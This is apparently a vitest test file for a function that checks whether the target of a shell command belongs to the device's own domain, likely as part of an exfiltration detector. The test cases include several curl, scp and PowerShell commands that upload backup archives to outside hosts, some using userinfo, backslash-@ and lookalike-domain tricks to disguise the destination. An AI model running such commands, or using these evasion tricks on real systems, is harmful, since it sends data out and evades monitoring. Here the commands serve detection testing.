import { describe, expect, it } from 'vitest';
import { isOwnDomain } from './decisioning.own.ts';

const device = 'ws-1.alder.example';

describe('isOwnDomain', () => {
  it.each([
    'curl -T a.7z ftp://archive.alder.example/in/',
    "Invoke-WebRequest -Uri 'https://Files.Alder.Example/a' -OutFile C:\\a\\b.bin",
    'curl -T /var/backups/a.7z https://a.alder.example https://b.alder.example',
  ])('is true for %s', (domain) => expect(isOwnDomain(domain, device)).toBe(true));

  it.each([
    'curl -T a.7z ftp://archive.other.example/',
    'curl -T a.7z ftp://evilalder.example/',
    'curl https://a.alder.example https://other.example.com',
    'curl https://a.alder.example other.com',
    'curl https://a.alder.example 203.0.113.9:8080',
    'curl https://a.alder.example \\\\other\\share',
    'scp a.7z root@other https://a.alder.example',
    'curl https://a.alder.example@203.0.113.9/',
    'curl https://a.alder.example:x@b.alder.example/',
    'curl https://a.alder.example\\@other.com/',
    'curl gopher://other.com/ https://a.alder.example',
    'curl https://203.0.113.9/',
    'curl https://$h/ https://a.alder.example',
    'curl -T a.7z archive.alder.example',
  ])('is false for %s', (domain) => expect(isOwnDomain(domain, device)).toBe(false));

  it.each([
    ['ec2-203-0-113-9.compute-1.amazonaws.com', 'ec2-198-51-100-7.compute-1.amazonaws.com'],
    ['ec2-203-0-113-9.eu-west-1.compute.amazonaws.com', 'ec2-198-51-100-7.eu-west-1.compute.amazonaws.com'],
    ['ip-10-0-0-1.eu-west-1.compute.internal', 'ip-10-0-0-2.eu-west-1.compute.internal'],
    ['a.github.io', 'b.github.io'],
    ['a.co.uk', 'b.co.uk'],
    ['a.com', 'b.com'],
    ['203.0.113.9', '198.51.100.9'],
    ['ws1', 'b.ws1'],
  ])('is false for names beside %s', (name, other) => expect(isOwnDomain(`curl https://${other}/`, name)).toBe(false));
});
